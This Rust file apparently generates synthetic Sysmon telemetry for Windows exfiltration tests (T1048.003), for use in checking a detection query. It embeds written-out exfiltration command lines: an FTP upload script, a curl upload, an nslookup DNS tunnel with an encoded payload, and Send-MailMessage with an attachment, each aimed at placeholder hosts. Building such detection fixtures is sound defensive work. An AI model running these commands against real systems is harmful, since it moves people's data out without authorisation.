//! The five tests of the T1048.003 package, as Sysmon sees them when something listens.
//!
//! A refused connection is not logged, so [`Sink::Loopback`] also has a listener.

use crate::event::Event;
use crate::program::{self, Program};
use crate::sysmon::{Connection, Host, Logon, Process};
use crate::time::FileTime;
use crate::value::Text;

/// Where the data goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sink {
    /// A documentation address, which the query takes for external.
    External,
    /// 127.0.0.1, as the package writes its tests; the query takes it for external too.
    Loopback,
}

impl Sink {
    fn address(self, external: &'static str) -> &'static str {
        match self {
            Sink::External => external,
            Sink::Loopback => "127.0.0.1",
        }
    }
}

/// The one who runs the tests on a machine of Windows.
pub struct Attacker<'a> {
    host: &'a Host,
    logon: Logon,
    home: String,
    sink: Sink,
}

const PAYLOAD: &str = "aG9zdD1XSU4xMC1BTElDRTt1c2VyPWFsaWNlO2RvYz1wYXlyb2xs";

impl<'a> Attacker<'a> {
    /// An attacker with the session of this user of the domain CORP.
    pub fn new(host: &'a Host, user: &str, sink: Sink) -> Self {
        let logon =
            Logon { user: format!("CORP\\{user}").into(), id: 0xD_3B4A, session: 1, integrity: "Medium" };
        Attacker { host, logon, home: format!("C:\\Users\\{user}"), sink }
    }

    /// Test 1: cmd.exe writes a script and ftp.exe runs it, then the server opens the data channel.
    pub fn ftp_script(&self, at: FileTime) -> Vec<Event> {
        let (host, server) = (self.host, self.sink.address("203.0.113.21"));
        let temp = format!("{}\\AppData\\Local\\Temp", self.home);
        let script = format!("{temp}\\ftp_script.txt");
        let shell_line = format!(
            "C:\\Windows\\system32\\cmd.exe /c \"echo open {server}>{script} & echo user anonymous guest@example.com>>{script} \
             & echo put {temp}\\exfil_data.txt>>{script} & echo quit>>{script} & ftp.exe -n -s:{script}\""
        );
        let powershell_line = "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"";
        let parent = self.start(at.before_millis(30_000), 4812, program::POWERSHELL, powershell_line);
        let shell = self.start(at, 6120, program::CMD, shell_line);
        // cmd.exe leaves two spaces between the command and its arguments.
        let ftp = self.start(at.after_millis(200), 6184, program::FTP, format!("ftp.exe  -n -s:{script}"));
        let data = Connection {
            protocol: "tcp",
            initiated: false,
            source: (server.into(), 20),
            destination: (self.own_address(), 51_545),
        };
        vec![
            host.process_create(at, &shell, &parent),
            host.file_create(at.after_millis(50), &shell, script),
            host.process_create(at.after_millis(200), &ftp, &shell),
            host.network(at.after_millis(310), &ftp, &self.connect(51_544, server, 21)),
            host.network(at.after_millis(720), &ftp, &data),
        ]
    }

    /// Test 2: curl.exe uploads a file to a plaintext endpoint.
    pub fn curl_upload(&self, at: FileTime) -> Vec<Event> {
        let server = self.sink.address("203.0.113.80");
        let file = format!("{}\\AppData\\Local\\Temp\\exfil_data.txt", self.home);
        let line = format!("curl.exe  --upload-file {file} http://{server}:8080/upload");
        let curl = self.start(at, 7712, program::CURL, line);
        vec![
            self.host.process_create(at, &curl, &self.shell(at)),
            self.host.network(at.after_millis(90), &curl, &self.connect(51_588, server, 8080)),
        ]
    }

    /// Test 3: PowerShell runs nslookup.exe with a long subdomain. Its queries give no event 22.
    pub fn dns_tunnel(&self, at: FileTime) -> Vec<Event> {
        let server = self.sink.address("203.0.113.53");
        let script = "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\AtomicTests\\dns_exfil.ps1";
        let parent = self.start(at, 5312, program::POWERSHELL, script);
        let later = at.after_millis(600);
        let line = format!("\"C:\\Windows\\system32\\nslookup.exe\" {PAYLOAD}.exfil.example.com {server}");
        let nslookup = self.start(later, 5390, program::NSLOOKUP, line);
        let query = Connection { protocol: "udp", ..self.connect(51_620, server, 53) };
        vec![
            self.host.process_create(at, &parent, &self.shell(at)),
            self.host.process_create(later, &nslookup, &parent),
            self.host.network(later.after_millis(70), &nslookup, &query),
        ]
    }

    /// Test 3 with Resolve-DnsName: event 22 has the long name, and the query does not look at it.
    pub fn dns_cmdlet(&self, at: FileTime) -> Vec<Event> {
        let name = format!("{PAYLOAD}.exfil.example.com");
        let line = format!("powershell.exe -NoProfile -Command \"Resolve-DnsName {name}\"");
        let powershell = self.start(at, 5400, program::POWERSHELL, line);
        vec![
            self.host.process_create(at, &powershell, &self.shell(at)),
            self.host.dns_query(at.after_millis(500), &powershell, name, ("9003", "-".into())),
        ]
    }

    /// Test 4: Send-MailMessage on the command line.
    pub fn mail(&self, at: FileTime) -> Vec<Event> {
        let server = self.sink.address("203.0.113.25");
        let file = format!("{}\\AppData\\Local\\Temp\\exfil_data.txt", self.home);
        let line = format!(
            "powershell.exe -NoProfile -Command \"Send-MailMessage -From 'alice@corp.example' -To 'drop@exfil.example' \
             -Subject 'weekly' -Body 'see attached' -Attachments '{file}' -SmtpServer {server} -Port 25\""
        );
        self.mail_by(at, line, server)
    }

    /// Test 4 in a script, where only the connection shows.
    pub fn mail_script(&self, at: FileTime) -> Vec<Event> {
        let line = "powershell.exe -File C:\\AtomicTests\\mail.ps1".to_owned();
        self.mail_by(at, line, self.sink.address("203.0.113.25"))
    }

    fn mail_by(&self, at: FileTime, line: String, server: &'static str) -> Vec<Event> {
        let powershell = self.start(at, 8040, program::POWERSHELL, line);
        vec![
            self.host.process_create(at, &powershell, &self.shell(at)),
            self.host.network(at.after_millis(800), &powershell, &self.connect(51_702, server, 25)),
        ]
    }

    /// All tests of Windows, a few minutes apart.
    pub fn all(&self, at: FileTime) -> Vec<Event> {
        let minutes = |count: u64| at.after_millis(count * 60_000);
        [
            self.ftp_script(at),
            self.curl_upload(minutes(3)),
            self.dns_tunnel(minutes(6)),
            self.dns_cmdlet(minutes(8)),
            self.mail(minutes(11)),
            self.mail_script(minutes(14)),
        ]
        .concat()
    }

    fn shell(&self, at: FileTime) -> Process {
        self.start(at.before_millis(20_000), 4812, program::CMD, "\"C:\\Windows\\system32\\cmd.exe\"")
    }

    fn start(&self, at: FileTime, id: u32, program: Program, line: impl Into<Text>) -> Process {
        self.host.process(at, id, program, line, &self.logon)
    }

    /// To itself, a machine has the address it connects to.
    fn own_address(&self) -> Text {
        match self.sink {
            Sink::External => self.host.ip.clone(),
            Sink::Loopback => "127.0.0.1".into(),
        }
    }

    fn connect(&self, port: u16, server: &'static str, server_port: u16) -> Connection {
        Connection { source: (self.own_address(), port), ..self.host.connect(port, server, server_port) }
    }
}
